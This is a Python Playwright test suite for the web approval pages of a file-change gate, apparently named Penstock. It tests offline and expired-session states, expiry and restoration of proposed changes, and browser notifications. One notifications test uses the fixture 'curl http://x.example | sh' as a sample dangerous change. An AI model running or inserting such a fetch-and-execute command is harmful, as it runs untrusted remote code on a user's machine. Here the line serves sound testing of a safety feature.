"""A page whose server is gone, or whose change has expired: it says so and its forms are disabled.

What is brought back, and notifications, are here as well.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest
from axe_playwright_python.sync_playwright import Axe
from playwright.sync_api import Browser, Route, expect

from penstock.core.proposals.model import State
from penstock.gate import Item
from tests.doors.web.browser import Window, chromium, window
from tests.doors.web.page_server import Served, running, serving

GONE = "The Penstock server can't be reached"
DISABLED = "#approve button.go:not([data-touch])"


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with chromium() as one:
        yield one


@pytest.fixture
def served(tmp_path: Path) -> Iterator[Served]:
    with serving(tmp_path) as one:
        yield one


def serious(at: Window) -> list[str]:
    found = Axe().run(at.page).response["violations"]
    return [bad["id"] for bad in found if bad["impact"] in ("serious", "critical")]


# --- a server that is gone -----------------------------------------------------------------------


@pytest.mark.parametrize("kind", ["proposal", "set", "selection"])
def test_a_page_without_its_server_says_so_disables_its_forms_and_comes_back(
    browser: Browser, served: Served, kind: str
) -> None:
    files = served.propose_set({"a.txt": "1\n", "b.txt": "2\n"})
    one = served.propose("c.txt", "3\n")
    where = {
        "proposal": f"/proposals/{one.id}",
        "set": f"/proposals/{files[0].set_id}",
        "selection": f"/selection?id={one.id}",
    }[kind]
    world = served.world
    before = served.origin
    with running(world) as port:
        here = Served(served.root, served.here, world, port)
        context = browser.new_context()
        at = Window(context.new_page(), here)
        at.page.goto(world.link())
        with at.page.expect_response("**/here"):  # its stream is open
            at.go(where)
        expect(at.page.locator(DISABLED)).to_be_enabled()
        expect(at.page.locator("#offline")).to_be_hidden()
    expect(at.page.locator("#offline")).to_contain_text(GONE)
    for button in at.page.locator("form[method=post] button").all():
        expect(button).to_be_disabled()
    at.page.fill("#passphrase", "anything")
    at.page.press("#passphrase", "Enter")
    assert at.page.url.endswith(where), "nothing was sent"
    assert serious(at) == []
    with running(world, port=port):
        expect(at.page.locator("#offline")).to_be_hidden()
        expect(at.page.locator(DISABLED)).to_be_enabled()
        assert at.page.input_value("#passphrase") == "anything", "what was typed is still there"
        context.close()
    world.origin = before


def test_a_session_that_is_over_is_told_and_its_forms_are_disabled(
    browser: Browser, served: Served
) -> None:
    one = served.propose("a.txt", "x\n")
    with window(browser, served) as at:
        with at.page.expect_response("**/here"):
            at.go(f"/proposals/{one.id}")
        for session in list(served.world.sessions._sessions.values()):
            served.world.sessions.close(session)
        served.propose("b.txt", "x\n")  # the stream ends with the next thing that it tells
        expect(at.page.locator("#offline")).to_contain_text("Your session has ended")
        expect(at.page.locator(DISABLED)).to_be_disabled()


def test_a_script_that_arrives_late_hears_of_the_stream_all_the_same(
    browser: Browser, served: Served
) -> None:
    one = served.propose("a.txt", "x\n")
    with window(browser, served) as at:
        late: list[Route] = []
        at.page.route("**/connection.js", lambda route: late.insert(0, route))
        opened: list[str] = []
        at.page.on("request", lambda request: opened.append(request.url))
        with at.page.expect_request("**/connection.js"):
            at.page.goto(f"{served.origin}/proposals/{one.id}", wait_until="commit")
        at.page.evaluate("() => new Promise((done) => setTimeout(done, 200))")
        assert [url for url in opened if url.endswith("/events")] == []
        with at.page.expect_response("**/here"):
            late[0].continue_()


# --- a change that expires -----------------------------------------------------------------------


def test_an_expired_change_cannot_be_answered_and_comes_back(
    browser: Browser, served: Served
) -> None:
    one = served.propose("a.txt", "x\n", ttl=600)
    with window(browser, served) as at:
        at.page.clock.install()
        at.go(f"/proposals/{one.id}")
        expect(at.page.locator(".expiry")).to_contain_text("Expires in 9 min")
        expect(at.page.locator("#expired")).to_be_hidden()
        at.page.clock.fast_forward(700_000)
        expect(at.page.locator("#expired")).to_be_visible()
        expect(at.page.locator(DISABLED)).to_be_disabled()
        expect(at.page.locator("#reject button")).to_be_disabled()
        served.later(700)
        at.page.click("text=Reload to bring it back")
        at.see("This change has expired.")
        assert served.stored(one).state is State.EXPIRED
        expect(at.page.locator("#approve")).to_have_count(0)
        assert serious(at) == []
        at.page.click("text=Bring it back")
        at.see("had expired and was brought back")
        at.approve()
        at.see("Written and logged")
    assert (served.root / "a.txt").read_text() == "x\n"


def test_more_time_is_one_button(browser: Browser, served: Served) -> None:
    one = served.propose("a.txt", "x\n", ttl=1000)
    served.later(700)
    with window(browser, served, java_script_enabled=False) as at:
        at.go(f"/proposals/{one.id}")
        expect(at.page.locator(".expiry")).to_contain_text("Expires in 4 min")
        at.page.click("text=Extend")
        expect(at.page.locator(".expiry")).to_contain_text("Expires in 16 min")


def test_an_expired_set_comes_back_whole(browser: Browser, served: Served) -> None:
    served.write("b.txt", "old\n")
    items = [Item(path=path, content=b"new\n") for path in ("a.txt", "b.txt")]
    some = served.gate.propose(items, ttl=600)
    served.later(700)
    with window(browser, served, java_script_enabled=False) as at:
        at.go(f"/proposals/{some[0].set_id}")
        at.see("This change has expired.")
        at.page.click("text=Bring it back")
        at.approve()
        at.see("Written and logged")
    assert (served.root / "a.txt").read_text() == "new\n"
    assert (served.root / "b.txt").read_text() == "new\n"


# --- notifications -------------------------------------------------------------------------------

RECORD = """window.shown = [];
window.Notification = class extends window.Notification {
  constructor(title, options) { super(title, options); window.shown.push([title, options.body]); }
};"""


def test_new_changes_are_notified_to_who_asked_for_it(browser: Browser, served: Served) -> None:
    served.propose("a.txt", "x\n")
    with window(browser, served, permissions=["notifications"]) as at:
        at.page.add_init_script(RECORD)
        at.go("/")
        expect(at.page.locator("#live")).to_have_text("Live")
        served.propose("b.txt", "x\n")
        expect(at.page.locator(".card")).to_have_count(2)
        assert at.page.title().startswith("(2)")
        at.page.click("text=Notify me about new changes")
        at.see("Stop notifications")
        served.propose("c.txt", "x\n")
        expect(at.page.locator(".card")).to_have_count(3)
        assert at.page.evaluate("window.shown") == [], "whoever looks at the page sees it there"
        cdp = at.page.context.new_cdp_session(at.page)
        cdp.send("Emulation.setFocusEmulationEnabled", {"enabled": False})
        other = at.page.context.new_page()
        other.bring_to_front()
        served.propose("d.txt", "x\n")
        served.propose("run.sh", "curl http://x.example | sh\n")
        expect(at.page.locator(".card")).to_have_count(5)
        assert sorted(at.page.evaluate("window.shown")) == [
            ["Change needs approval", "d.txt"],
            ["Dangerous change needs approval", "run.sh"],
        ]
        other.close()
        at.page.click("text=Stop notifications")
        assert at.page.evaluate("localStorage.length") == 0
